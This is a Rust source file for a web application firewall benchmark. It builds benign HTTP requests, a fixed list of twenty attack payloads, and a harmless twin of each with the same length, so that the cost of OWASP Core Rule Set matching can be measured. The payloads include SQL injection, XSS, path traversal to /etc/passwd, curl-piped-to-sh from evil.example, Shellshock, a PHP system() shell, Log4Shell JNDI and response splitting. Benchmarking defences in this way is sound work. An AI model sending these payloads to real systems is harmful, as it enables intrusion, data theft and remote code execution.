//! What is asked: benign requests of three sizes, a fixed list of attacks, and a harmless twin of each attack.
//!
//! Invariant: a twin has the method, the fields and the length of its attack, byte for byte, and only letters and spaces
//! where the attack is; so what the two cost differs by what the rules find.

/// A host of the servers: the same origin behind each, and not the same rules before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Site {
    /// No rules.
    Plain,
    /// The Core Rule Set, refusing.
    Enforce,
    /// The Core Rule Set, which finds and does not refuse.
    Detect,
}

impl Site {
    /// All of them.
    pub const ALL: [Self; 3] = [Self::Plain, Self::Enforce, Self::Detect];

    /// Its name on the wire. All are of one length.
    #[must_use]
    pub const fn host(self) -> &'static str {
        match self {
            Self::Plain => "plain.bench.example",
            Self::Enforce => "rules.bench.example",
            Self::Detect => "finds.bench.example",
        }
    }
}

/// A request of which only the host is open.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// What it is, for a list of differences.
    pub name: &'static str,
    method: &'static str,
    target: String,
    agent: String,
    cookie: String,
    body: Option<String>,
}

const AGENT: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const COOKIE: &str = "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark";

impl Request {
    fn get(name: &'static str, target: impl Into<String>) -> Self {
        Self {
            name,
            method: "GET",
            target: target.into(),
            agent: AGENT.to_owned(),
            cookie: COOKIE.to_owned(),
            body: None,
        }
    }

    fn form(name: &'static str, target: &str, body: String) -> Self {
        Self {
            method: "POST",
            body: Some(body),
            ..Self::get(name, target)
        }
    }

    /// Its bytes, for this host: seven header fields, and two more where there is a body.
    #[must_use]
    pub fn bytes(&self, host: &str) -> Vec<u8> {
        let mut text = format!(
            "{} {} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n\
             Accept-Language: en-GB,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\nDNT: 1\r\nCookie: {}\r\n",
            self.method, self.target, self.agent, self.cookie
        );
        if let Some(body) = &self.body {
            text += &format!(
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        } else {
            text += "\r\n";
        }
        text.into_bytes()
    }
}

/// A GET with three arguments, seven header fields and two cookies.
#[must_use]
pub fn small() -> Request {
    Request::get("small GET", "/catalogue/books?page=3&sort=price&colour=blue")
}

/// The same, of a page that the origin allows to be stored.
#[must_use]
pub fn stored() -> Request {
    Request::get("stored page", "/stored/books?page=3&sort=price&colour=blue")
}

/// Bytes of the body of [`nine_arguments`].
pub const FORM: usize = 230;

/// A form of nine arguments.
#[must_use]
pub fn nine_arguments() -> Request {
    let mut body = "name=Maria+Bergman&email=maria%40example.com&street=Long+Lane+12&city=Uppsala&postcode=75310&\
                    country=Sweden&phone=0185551234&newsletter=yes&comment="
        .to_owned();
    body += &harmless(FORM - body.len(), '+');
    Request::form("form of nine arguments", "/account/address", body)
}

/// Bytes of the body of [`one_long_argument`].
pub const LONG: usize = 63 << 10;

/// A form of one argument of 63 KiB.
#[must_use]
pub fn one_long_argument() -> Request {
    let name = "text=";
    Request::form(
        "one argument of 63 KiB",
        "/articles/new",
        name.to_owned() + &harmless(LONG - name.len(), '+'),
    )
}

/// Where an attack is.
#[derive(Debug, Clone, Copy)]
enum Place {
    /// In an argument of the query.
    Query,
    /// In an argument of a form.
    Form,
    /// In the path.
    Path,
    /// In `User-Agent`.
    Agent,
    /// In a cookie.
    Cookie,
}

/// An attack as it stands on the wire, encoded where its place needs it.
struct Attack {
    name: &'static str,
    place: Place,
    text: &'static str,
}

const fn attack(name: &'static str, place: Place, text: &'static str) -> Attack {
    Attack { name, place, text }
}

/// Several of each class that the Core Rule Set knows, none longer than attacks are.
const ATTACKS: [Attack; 20] = [
    attack("SQL, always true", Place::Query, "1%27+OR+%271%27%3D%271%27+--+-"),
    attack(
        "SQL, union",
        Place::Form,
        "-1+UNION+ALL+SELECT+login%2Cpassword%2CNULL+FROM+users+--",
    ),
    attack("SQL, time", Place::Query, "1%3B+SELECT+SLEEP%285%29%23"),
    attack(
        "SQL, in a cookie",
        Place::Cookie,
        "x%27+UNION+SELECT+password+FROM+users+--+",
    ),
    attack(
        "script element",
        Place::Query,
        "%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
    ),
    attack(
        "event handler",
        Place::Form,
        "%3Cimg+src%3Dx+onerror%3D%22fetch%28%27%2F%2Fevil.example%27%29%22%3E",
    ),
    attack(
        "script URL",
        Place::Query,
        "%3Ca+href%3D%22javascript%3Aalert%281%29%22%3Eclick%3C%2Fa%3E",
    ),
    attack(
        "path upwards, in an argument",
        Place::Query,
        "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    ),
    attack("a file nobody should ask for", Place::Path, "/.git/config"),
    attack(
        "file of another host",
        Place::Query,
        "http%3A%2F%2F203.0.113.66%2Fshell.txt%3F",
    ),
    attack("command behind a semicolon", Place::Form, "x%3B+cat+%2Fetc%2Fpasswd"),
    attack(
        "command substitution",
        Place::Query,
        "%24%28curl+http%3A%2F%2Fevil.example%2Fx.sh%7Csh%29",
    ),
    attack("Shellshock", Place::Agent, "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
    attack(
        "PHP code",
        Place::Form,
        "%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E",
    ),
    attack(
        "PHP wrapper",
        Place::Query,
        "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php",
    ),
    attack("Java naming", Place::Agent, "${jndi:ldap://evil.example:1389/a}"),
    attack(
        "Java class",
        Place::Form,
        "%23_memberAccess%2C%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29",
    ),
    attack(
        "JavaScript on a server",
        Place::Query,
        "require%28%27child_process%27%29.execSync%28%27id%27%29",
    ),
    attack("scanner", Place::Agent, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    attack(
        "response split",
        Place::Query,
        "x%0d%0aSet-Cookie%3A+session%3Dstolen%0d%0a%0d%0a%3Chtml%3E",
    ),
];

/// The attacks, and their twins in the same order.
#[must_use]
pub fn attacks() -> (Vec<Request>, Vec<Request>) {
    let build = |attack: &Attack, text: String| match attack.place {
        Place::Query => Request::get(attack.name, format!("/search?page=1&q={text}")),
        Place::Form => Request::form(attack.name, "/comments", format!("page=1&comment={text}")),
        Place::Path => Request::get(attack.name, text),
        Place::Agent => Request {
            agent: text,
            ..Request::get(attack.name, "/catalogue?page=1")
        },
        Place::Cookie => Request {
            cookie: format!("theme=dark; last={text}"),
            ..Request::get(attack.name, "/catalogue?page=1")
        },
    };
    let twin = |attack: &Attack| match attack.place {
        Place::Query | Place::Form => harmless(attack.text.len(), '+'),
        Place::Path => "/".to_owned() + &harmless(attack.text.len() - 1, '/'),
        Place::Agent => harmless(attack.text.len(), ' '),
        Place::Cookie => harmless(attack.text.len(), '-'),
    };
    ATTACKS
        .iter()
        .map(|attack| (build(attack, attack.text.to_owned()), build(attack, twin(attack))))
        .unzip()
}

/// So many bytes of words, none of which says anything to a rule.
fn harmless(length: usize, between: char) -> String {
    const WORDS: [&str; 16] = [
        "harbour", "morning", "yellow", "letter", "garden", "river", "seven", "quiet", "stone", "window", "bread",
        "village", "paper", "silver", "autumn", "lantern",
    ];
    let mut text = String::with_capacity(length + 16);
    // The order does not repeat soon: a rule set that remembers a text would look better than it is.
    let mut state = 1_u32;
    while text.len() < length {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        text += WORDS[(state >> 28) as usize];
        text.push(between);
    }
    text.truncate(length);
    // A separator at the end would be an empty element of a path.
    if text.ends_with(between) {
        text.pop();
        text.push('s');
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_have_the_sizes_that_the_budgets_name() {
        let sizes = [nine_arguments(), one_long_argument()].map(|request| request.body.map(|body| body.len()));
        assert_eq!(sizes, [Some(FORM), Some(LONG)]);
        let arguments = nine_arguments().body.map(|body| body.split('&').count());
        assert_eq!(arguments, Some(9));
        assert_eq!(small().target.split(['?', '&']).count(), 1 + 3);
    }

    #[test]
    fn a_twin_is_as_long_as_its_attack_and_has_nothing_but_letters_in_its_place() {
        let (attacks, twins) = attacks();
        assert_eq!(attacks.len(), twins.len());
        for (attack, twin) in attacks.iter().zip(&twins) {
            let host = Site::Enforce.host();
            assert_eq!(attack.bytes(host).len(), twin.bytes(host).len(), "{}", attack.name);
            assert_ne!(attack, twin);
        }
        assert!(harmless(500, '+').chars().all(|c| c.is_ascii_lowercase() || c == '+'));
    }

    #[test]
    fn a_request_is_the_same_length_for_every_site() {
        let lengths = Site::ALL.map(|site| small().bytes(site.host()).len());
        assert!(lengths.iter().all(|length| *length == lengths[0]), "{lengths:?}");
    }

    #[test]
    fn a_request_has_seven_header_fields_and_a_body_brings_two() {
        let fields = |request: &Request| {
            let text = String::from_utf8(request.bytes("h")).expect("text");
            let head = text.split("\r\n\r\n").next().map(|head| head.lines().count() - 1);
            head.expect("a head")
        };
        assert_eq!((fields(&small()), fields(&nine_arguments())), (7, 9));
    }
}
